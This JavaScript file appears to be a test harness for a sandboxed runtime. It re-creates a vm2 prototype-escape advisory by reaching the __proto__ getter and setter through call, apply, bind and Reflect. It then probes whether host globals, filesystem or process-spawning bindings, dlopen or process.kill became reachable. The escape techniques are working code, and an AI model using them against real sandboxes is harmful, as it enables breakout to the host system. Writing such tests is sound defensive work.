// CVE-2026-47131 (GHSA-v6mx-mf47-r5wg), vm2: the setter of `__proto__` was guarded where it is named, and reached by call, apply, bind and
// Reflect.apply; a prototype of a host's object then led out.
const { get, set } = Object.getOwnPropertyDescriptor(Object.prototype, "__proto__");
const attacks = {
  "by each way to call it": {
    ends: ["ok"],
    times: 10,
    run(request, env, context) {
      const got = [];
      const mine = { left: true };
      for (const object of [
        globalThis,
        process,
        console,
        request,
        env,
        context,
        fetch,
        crypto,
        import.meta,
        Response,
        Promise.resolve(),
        new Error("x"),
        (async () => {})(),
        [].values(),
      ]) {
        try {
          for (let up = get.call(object); up !== null; up = Reflect.apply(get, up, [])) {
            if (up.left === true) return "the render before left its prototype";
            got.push(up, up.constructor);
          }
        } catch (error) {
          got.push(error);
        }
        for (const put of [
          () => set.call(object, mine),
          () => set.apply(object, [mine]),
          () => set.bind(object)(mine),
          () => Reflect.apply(set, object, [mine]),
          () => Function.prototype.call.call(set, object, mine),
          () => Reflect.set(object, "__proto__", mine),
        ]) {
          try {
            const before = Object.getPrototypeOf(object);
            put();
            got.push(object.constructor);
            Object.setPrototypeOf(object, before);
          } catch (error) {
            got.push(error);
          }
        }
      }
      return probe(...got);
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request, env, context) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request, env, context)) ?? "held");
  },
};
